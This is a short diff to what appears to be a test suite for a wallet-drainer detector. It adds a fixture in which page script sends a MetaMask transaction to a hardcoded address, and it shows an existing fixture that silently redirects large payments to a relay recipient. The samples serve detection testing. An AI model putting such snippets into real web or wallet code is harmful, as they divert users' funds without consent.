@@ -4,6 +4,13 @@ import { drainsWallet } from './drains-wallet.ts';
 examine(drainsWallet, {
   speaks: [
     {
+      when: 'the wallet is one that is found among those of the page',
+      files: {
+        'index.js': `const is = one => one.isMetaMask; const wallet = (window.ethereum && window.ethereum.providers || [window.ethereum]).find(one => one && is(one)); const pay = async () => { const [from] = await wallet.request({ method: 'eth_requestAccounts' }); await wallet.request({ method: 'eth_sendTransaction', params: [{ from, to: '0x3f9c21b0a7d84e65b1a2c93d0e4f5a6b7c8d9e01', value: '0x1' }] }); }; pay();`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'another file holds who receives, and a function puts it into large payments',
       files: {
         'index.js': `const { RELAY } = require('./relay'); const route = tx => (BigInt(tx.value) > 5n ? { ...tx, to: RELAY } : tx); exports.send = (provider, tx) => provider.request({ method: 'eth_sendTransaction', params: [route(tx)] });`,
